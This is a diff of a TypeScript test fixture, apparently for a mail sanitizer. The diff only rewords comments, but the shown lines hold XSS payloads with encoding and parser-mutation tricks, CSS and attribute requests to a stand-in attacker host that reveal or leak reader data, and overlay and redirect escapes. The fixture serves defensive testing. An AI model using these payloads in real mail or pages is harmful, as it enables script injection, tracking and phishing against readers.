@@ -1,4 +1,4 @@
-/** What an attack does when it runs: the browser reports both, from whichever frame. No space and no double quote in it. */
+/** What an attack runs: the browser reports both calls, from any frame. It must hold no space and no double quote. */
 export const owned = "console.log('owned'),alert('owned')";
 
 const mutated = `<img src=x onerror="${owned}">`;
@@ -29,7 +29,7 @@ const mutating = () => ({
   "broken bytes": `<img src=x one\0rror="${owned}"><scr\0ipt>${owned}</scr\0ipt><\u0000script>${owned}</script><img src=x onerror\u000c="${owned}"><img src=x\u00a0onerror="${owned}"><p \uff1cscript\uff1e>${owned}</p>+ADw-script+AD4-${owned}+ADw-/script+AD4-<img src=x onerror\u2028="${owned}">`,
 });
 
-/** HTML that asks the sender's server for something, so that it knows who reads (threat 23). */
+/** HTML that requests something from the sender's server, which tells the sender who reads (threat 23). */
 const calling = (evil: string) => ({
   "style addresses": `<style>@import url(${evil}/a.css);@import "${evil}/b.css" screen;@\\69mport '${evil}/c.css';@namespace url(${evil}/n);@font-face{font-family:x;src:url(${evil}/f.woff2) format("woff2"),local(x)}p{background:url(${evil}/b);font-family:x}p::after{content:url(${evil}/c)}li{list-style-image:url(${evil}/l)}:root{--u:url(${evil}/v)}b{background:var(--u)}i{background:u\\72l(${evil}/e);mask:url(${evil}/m);-webkit-mask-image:url(${evil}/w);border-image:url(${evil}/bi) 1;cursor:url(${evil}/cu),auto;filter:url(${evil}/fi#x);clip-path:url(${evil}/cp#x);shape-outside:url(${evil}/so)}u{background-image:image-set("${evil}/s" 1x,url(${evil}/t) 2x);background-image:-webkit-image-set(url(${evil}/ws) 1x);background-image:-webkit-cross-fade(url(${evil}/x1),url(${evil}/x2),50%)}s{background:url("${evil}/unclosed}</style><style>a[href^="https://a"]{background:url(${evil}/leak-a)}</style><p>p <b>b</b> <i>i</i> <u>u</u> <s>s</s></p><ul><li>l</ul><a href="https://a.example/">a</a>`,
   "style attributes": `<p style="background-image:url('${evil}/c')">a</p><p style="background:url(${evil}/d">b</p><p style="background:u\\000072l(&quot;${evil}/e&quot;)">c</p><p style="background/**/:/**/url(${evil}/f)">d</p><p style="list-style:url(${evil.slice(5)}/g);display:list-item">e</p><p style="content:url(${evil}/h);background:src('${evil}/i')">f</p><p style="--x:url(${evil}/j);background:var(--x)">g</p><p style='background:image("${evil}/k"),url(\\
@@ -48,7 +48,7 @@ ${evil}/l)'>h</p>`,
   pings: `<a href="https://x.example/" ping="${evil}/ping">a</a><area ping="${evil}/area" href="https://x.example/"><blockquote cite="${evil}/cite">q</blockquote><del cite="${evil}/del">d</del><p itemscope itemid="${evil}/id">i</p><object classid="${evil}/cls" codebase="${evil}/" archive="${evil}/ar"></object>`,
 });
 
-/** HTML that would leave its place, or take the reader from it (threat 24). */
+/** HTML that would break out of its place, or take the reader elsewhere (threat 24). */
 const leaving = (evil: string) => ({
   overlays: `<style>.o{position:fixed;inset:0;z-index:2147483647;background:red}.p{p\\6fsition:FIXED!important}.q{position:sticky;top:0}@media screen{.r{position:fixed}}@supports (position:fixed){.s{position : fixed}}</style><div class=o>o</div><div class=p>p</div><div class=q>q</div><div class=r>r</div><div class=s>s</div><div style="position:fixed;top:0;left:0">t</div><div style="POSITION:\\66ixed">u</div><div style="position:/**/fixed">v</div><div style="position:fixed !important">w</div><div style="position:-webkit-sticky">x</div>`,
   refresh: `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv=refresh content="0;javascript:${owned}"><META HTTP-EQUIV="Set-Cookie" CONTENT="a=b"><meta http-equiv=Content-Security-Policy content="default-src *"><meta name=referrer content=unsafe-url>`,
@@ -56,7 +56,7 @@ const leaving = (evil: string) => ({
   targets: `<a href="${evil}/top" target=_top rel=opener>t</a><a href="${evil}/parent" target=_parent>p</a><a href="${evil}/self" target=_self>s</a><a href="/dashboard">own</a><a href="//${evil.slice(7)}/rel">r</a><a href="#top">h</a><a href="intent://x#Intent;end">i</a><a href="tel:+1">t</a><a href="blob:${evil}/x">b</a><a href="file:///etc/passwd">f</a><a href="view-source:${evil}">v</a>`,
 });
 
-/** The HTML of hostile mails, each by its name. They are given where the sender's own server is. */
+/** The HTML of hostile mails by name, as functions of the URL of the sender's own server. */
 export const hostileMail: Record<string, (evil: string) => Record<string, string>> = {
   "that would run": running,
   "that is another thing once it is parsed again": mutating,
@@ -64,10 +64,10 @@ export const hostileMail: Record<string, (evil: string) => Record<string, string
   "that would leave its place": leaving,
 };
 
-/** What a mail's header, name or text says that is to be shown as it is (threat 25). */
+/** A text for a mail's headers, names and body that must be shown literally (threat 25). */
 export const payload = `<img src=x onerror="${owned}"></title></textarea><script>${owned}</script><!--`;
 
-/** Mail that no parser takes, or none in time; each is whole, byte for byte (threats 15 to 17). */
+/** Mail that no parser can read, or none in time; the server keeps each byte for byte (threats 15 to 17). */
 export const unparseable = (): Record<string, Buffer> => {
   const head = (subject: string, ...lines: string[]) =>
     [`From: Zoë <zoe@elsewhere.example>`, `Subject: ${subject}`, ...lines, "", ""].join("\r\n");
